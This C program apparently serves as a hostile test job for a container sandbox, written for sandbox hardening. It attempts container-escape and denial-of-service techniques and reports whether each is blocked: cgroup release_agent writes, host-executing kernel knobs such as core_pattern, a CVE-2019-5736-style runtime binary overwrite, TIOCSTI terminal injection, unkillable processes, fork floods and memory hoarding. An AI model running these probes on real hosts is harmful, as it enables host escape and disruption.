// What a hostile job tries from inside a container. Each verb makes its attempts and prints what came of each; the
// tests say what should have. In a container nothing of it hurts a host that lets it through; do not run it outside of one.
//
// In C and static for the same reasons as the probe: clang -static -O1 attacker.c -o attacker
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void tell(const char *what, long result) {
    printf("%s: %s\n", what, result >= 0 ? "allowed" : strerrorname_np(errno));
}

/// Leaves a key in each keyring that could be shared.
static void add_key(const char *name) {
    static const struct { const char *name; long ring; } rings[] = {{"session", KEY_SPEC_SESSION_KEYRING},
                                                                    {"process", KEY_SPEC_PROCESS_KEYRING}};
    for (int i = 0; i < 2; i++) tell(rings[i].name, syscall(SYS_add_key, "user", name, "secret", 6L, rings[i].ring));
}

static void find_key(const char *name) {
    long key = syscall(SYS_keyctl, (long)KEYCTL_SEARCH, (long)KEY_SPEC_SESSION_KEYRING, "user", name, 0L);
    tell("search", key);
    tell("request", syscall(SYS_request_key, "user", name, NULL, 0L));
}

/// Every way to the host through control groups that takes no capability we were not given.
static void try_groups(const char *path, int depth) {
    DIR *directory = depth < 4 ? opendir(path) : NULL;
    if (!directory) return;
    char name[4096];
    snprintf(name, sizeof name, "%s/attack", path);
    if (mkdir(name, 0755) == 0) {
        printf("made %s\n", name);
        rmdir(name);
    }
    static const char *const files[] = {"release_agent", "notify_on_release", "cgroup.procs", "tasks",
                                        "cgroup.subtree_control", "memory.max", "memory.limit_in_bytes", "pids.max",
                                        "cpu.max", "cpu.cfs_quota_us", "cgroup.kill", "cgroup.max.depth", "devices.allow"};
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        snprintf(name, sizeof name, "%s/%s", path, files[i]);
        int file = open(name, O_WRONLY | O_CLOEXEC);
        if (file < 0) continue;
        printf("opened %s\n", name);
        close(file);
    }
    struct dirent *entry;
    while ((entry = readdir(directory)))
        if (entry->d_type == DT_DIR && entry->d_name[0] != '.') {
            snprintf(name, sizeof name, "%s/%s", path, entry->d_name);
            try_groups(name, depth + 1);
        }
    closedir(directory);
}

static void groups(void) {
    try_groups("/sys/fs/cgroup", 0);
    mkdir("/tmp/groups", 0755);
    tell("mount cgroup2", mount("none", "/tmp/groups", "cgroup2", 0, NULL));
    tell("mount cgroup memory", mount("none", "/tmp/groups", "cgroup", 0, "memory"));
    tell("mount cgroup rdma", mount("none", "/tmp/groups", "cgroup", 0, "rdma"));
    tell("remount writable", mount(NULL, "/sys/fs/cgroup", NULL, MS_REMOUNT | MS_BIND, NULL));
    tell("bind", mount("/sys/fs/cgroup", "/tmp/groups", NULL, MS_BIND, NULL));
    tell("unmount", umount2("/sys/fs/cgroup", MNT_DETACH));
    tell("unshare mounts", unshare(CLONE_NEWNS));
    tell("unshare groups", unshare(CLONE_NEWCGROUP));
}

/// The knobs of the kernel that run a program of the attacker's choice as root of the host, or stop it.
static void knobs(void) {
    static const char *const files[] = {
        "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug",
        "/proc/sys/kernel/poweroff_cmd", "/proc/sys/vm/panic_on_oom", "/proc/sys/fs/binfmt_misc/register",
        "/proc/sys/kernel/ns_last_pid", "/proc/sysrq-trigger", "/proc/kcore", "/proc/kmsg", "/proc/keys",
        "/proc/timer_list", "/sys/kernel/uevent_helper", "/sys/kernel/security", "/sys/firmware/efi/vars",
        "/sys/kernel/debug", "/sys/kernel/tracing", "/sys/power/state", "/dev/mem", "/dev/kmsg", "/dev/console"};
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        struct stat info;
        int file = open(files[i], O_WRONLY | O_CLOEXEC);
        // The null device in its place is a mask, and as good as nothing.
        int masked = file >= 0 && fstat(file, &info) == 0 && S_ISCHR(info.st_mode) && info.st_rdev == 0x103;
        printf("%s: %s\n", files[i], masked ? "masked" : file >= 0 ? "opened" : strerrorname_np(errno));
        if (file >= 0) close(file);
    }
}

/// Opens for writing every running program that is ours, by any process it can see.
static void programs(void) {
    DIR *directory = opendir("/proc");
    struct dirent *entry;
    while (directory && (entry = readdir(directory))) {
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
        char path[300], target[4096];
        snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
        ssize_t length = readlink(path, target, sizeof target - 1);
        if (length < 0) continue;
        target[length] = 0;
        if (!strstr(target, "memfd:")) continue;
        printf("seen %s\n", target);
        // Held open for reading it outlives its process, and then it is not busy any more (CVE-2019-5736).
        int reading = open(path, O_RDONLY | O_CLOEXEC);
        if (reading < 0) continue;
        snprintf(path, sizeof path, "/proc/self/fd/%d", reading);
        int writing = open(path, O_WRONLY | O_CLOEXEC);
        tell("open for writing", writing);
        if (writing >= 0) tell("write", write(writing, "#!/bin/sh\n", 10));
        tell("truncate", ftruncate(reading, 0));
        tell("unseal", fcntl(reading, F_ADD_SEALS, 0));
    }
}

/// Pushes a character into a terminal of its own, where the kernel alone would let it.
static void terminal(void) {
    int leader = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC);
    int number = 0, unlock = 0;
    tell("open ptmx", leader);
    if (leader < 0 || ioctl(leader, TIOCSPTLCK, &unlock) < 0 || ioctl(leader, TIOCGPTN, &number) < 0) return;
    char path[64];
    snprintf(path, sizeof path, "/dev/pts/%d", number);
    fflush(stdout);
    pid_t child = fork();
    if (child == 0) {
        setsid();
        int follower = open(path, O_RDWR);
        tell("take the terminal", ioctl(follower, TIOCSCTTY, 0));
        tell("TIOCSTI", ioctl(follower, TIOCSTI, "x"));
        tell("TIOCSTI with a high bit", syscall(SYS_ioctl, follower, 0x100000000L | TIOCSTI, "x"));
        fflush(stdout);
        _exit(0);
    }
    waitpid(child, NULL, 0);
}

static void families(void) {
    tell("AF_ALG", socket(AF_ALG, SOCK_SEQPACKET, 0));
    tell("AF_ALG with a high bit", syscall(SYS_socket, 0x100000000L | AF_ALG, (long)SOCK_SEQPACKET, 0L));
    tell("AF_VSOCK", socket(AF_VSOCK, SOCK_STREAM, 0));
    tell("AF_PACKET", socket(AF_PACKET, SOCK_RAW, 0));
    tell("AF_UNIX", socket(AF_UNIX, SOCK_STREAM, 0));
}

/// A process in vfork waits for its child in a sleep that takes no signal but a kill; the child takes none either.
static void immune(void) {
    sigset_t all;
    sigfillset(&all);
    sigprocmask(SIG_SETMASK, &all, NULL);
    for (int i = 1; i < 65; i++) signal(i, SIG_IGN);
    pid_t child = vfork();
    if (child == 0)
        for (;;) pause();
}

/// Stops and traces its own children, forks away from its parents, and leaves zombies.
static void crowd(void) {
    for (int i = 0; i < 300; i++)
        if (fork() == 0) _exit(0);  // nobody waits for them
    for (int i = 0; i < 20; i++)
        if (fork() == 0) {
            setsid();
            if (fork() != 0) _exit(0);
            signal(SIGTERM, SIG_IGN);
            if (i % 2) raise(SIGSTOP);
            for (;;) pause();
        }
    for (int i = 0; i < 5; i++) {
        pid_t traced = fork();
        if (traced == 0) {
            ptrace(PTRACE_TRACEME, 0, 0, 0);
            raise(SIGSTOP);
            for (;;) pause();
        }
    }
    signal(SIGTERM, SIG_IGN);
    printf("crowded\n");
    fflush(stdout);
    for (;;) pause();
}

/// Puts as much into pipes and sockets, which nobody reads, as the kernel lets it: memory that no page of the process shows.
static void hoard(void) {
    static char bytes[4096];
    long written = 0;
    memset(bytes, 'x', sizeof bytes);
    for (int pair = 0; pair < 400; pair++) {
        int ends[2];
        int large = 1 << 20;
        if (pipe2(ends, O_NONBLOCK) == 0) {
            fcntl(ends[1], F_SETPIPE_SZ, large);
            for (ssize_t some; (some = write(ends[1], bytes, sizeof bytes)) > 0;) written += some;
        }
        if (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, ends) == 0) {
            setsockopt(ends[1], SOL_SOCKET, SO_SNDBUF, &large, sizeof large);
            for (ssize_t some; (some = send(ends[1], bytes, sizeof bytes, 0)) > 0;) written += some;
        }
    }
    printf("hoarded: %ld MiB\n", written >> 20);
}

int main(int count, char **words) {
    const char *verb = count > 1 ? words[1] : "";
    if (!strcmp(verb, "add-key") && count > 2) add_key(words[2]);
    else if (!strcmp(verb, "find-key") && count > 2) find_key(words[2]);
    else if (!strcmp(verb, "groups")) groups();
    else if (!strcmp(verb, "knobs")) knobs();
    else if (!strcmp(verb, "programs")) programs();
    else if (!strcmp(verb, "terminal")) terminal();
    else if (!strcmp(verb, "families")) families();
    else if (!strcmp(verb, "immune")) immune();
    else if (!strcmp(verb, "crowd")) crowd();
    else if (!strcmp(verb, "hoard")) hoard();
    else {
        fprintf(stderr, "usage: attacker add-key NAME|find-key NAME|groups|knobs|programs|terminal|families|immune|crowd|hoard\n");
        return 2;
    }
    return 0;
}
